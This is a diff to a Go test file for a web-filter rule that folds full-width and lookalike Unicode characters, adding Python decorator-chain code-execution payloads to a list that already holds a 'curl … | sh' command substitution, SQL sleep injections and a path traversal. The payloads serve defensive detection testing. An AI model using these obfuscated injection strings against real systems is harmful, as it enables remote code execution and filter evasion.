@@ -32,6 +32,8 @@ var nfkcAttacks = []string{
 	"x `id`", "name=`curl -s 203.0.113.9|sh`",
 	// attack 24's: parenthesized digits (⑸ is (5))
 	"1 and sleep⑸", "1 and benchmark⑽",
+	// attack 26's: a decorator chain, which needs no bracket or quote
+	"from os import ſystem\n@ſystem\n@lambda c:c.__name__\nclass id:pass", "import os\n@os.ˢystem\n@lambda c:c.__name__\nclass id:pass",
 }
 
 // nfkcBenign is text with such characters that people write: Japanese
@@ -64,6 +66,15 @@ func TestNFKCFolded(t *testing.T) {
 	// refuse ‥/‥/ in the places TestNFKCBeyondTheCRS tries)
 	if n, ok := nfkcFolded("‥/‥/etc/hosts"); !ok || n != "../../etc/hosts" {
 		t.Errorf("two dot leaders: folded to %q, %v", n, ok)
+	}
+	// more than one line with an @ makes an argument (a decorator chain
+	// needs no bracket or quote: attack 26), which 210118 passes when it
+	// is no chain ending at a definition (the CRS alone refuses these in
+	// a cookie, so they are not in nfkcBenign)
+	for _, s := range []string{"連絡先：\nｔａｒｏ＠ｅｘａｍｐｌｅ．ｃｏｍ", "ｃｃ：\n＠ｓｙｓｔｅｍ\n＠ｏｐｓ"} {
+		if n, ok := nfkcFolded(s); !ok || codeCall(n) {
+			t.Errorf("%q: folded %v, 210118 matches %q", s, ok, n)
+		}
 	}
 	if _, ok := nfkcFolded("株式会社（ＡＢＣ）"); !ok {
 		t.Errorf("full-width parentheses: not folded")
